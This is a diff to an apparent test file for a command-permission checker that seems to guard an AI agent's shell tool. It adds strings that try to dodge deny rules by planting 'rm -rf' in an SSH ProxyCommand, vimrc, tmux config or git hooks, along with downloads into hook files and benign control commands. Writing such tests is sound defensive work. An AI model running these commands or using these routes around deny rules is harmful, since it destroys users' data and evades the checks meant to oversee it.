@@ -43,6 +43,8 @@ DODGES = [
     "gh alias import - <<EOF\nx: '!rm -rf y'\nEOF",
     "gh alias import - <<< 'p: \"!rm y\"'",
     "echo 'rm -rf y' > /tmp/h/pre-commit",  # git config core.hooksPath /tmp/h, later
+    "echo 'ProxyCommand rm -rf y' >> ~/.ssh/config", "echo '!rm x' >> ~/.vimrc",
+    "echo 'run-shell \"rm x\"' >> ~/.tmux.conf",
 ]
 # the content is not on the line: not provable (denied where a Bash deny exists, else ask)
 UNSEEN = [
@@ -64,7 +66,7 @@ UNSEEN = [
     "x=$(cp h .git/hooks/pre-commit)",
     "gh alias import aliases.yml", "gh alias import a.yml <<EOF\nx: ls\nEOF",
     "curl -s https://x/a.yml | gh alias import -",
-    "cp x /tmp/h/post-checkout", "curl -o hooks/commit-msg https://x",
+    "cp x /tmp/h/post-checkout", "curl -o hooks/commit-msg https://x", "cp evil ~/.ssh/config",
 ]
 # writes of content on the line that names nothing denied, and reads: as before
 HONEST = [
@@ -77,7 +79,8 @@ HONEST = [
     "git commit -m 'hooks: clean up'", "echo hi > .git/COMMIT_EDITMSG",
     "gh alias import - <<EOF\nco: pr checkout\nEOF", "gh alias list", "gh pr view 1",
     "echo 'npm test' > /tmp/h/pre-push", "pre-commit run --all-files",
-    "echo x > .pre-commit-config.yaml",
+    "echo x > .pre-commit-config.yaml", "cat ~/.ssh/config", "cat ~/.ssh/id_rsa.pub",
+    "echo 'set -g mouse on' >> ~/.tmux.conf", "ssh-keygen -t ed25519 -f ~/.ssh/id_x -N ''",
 ]
 
 
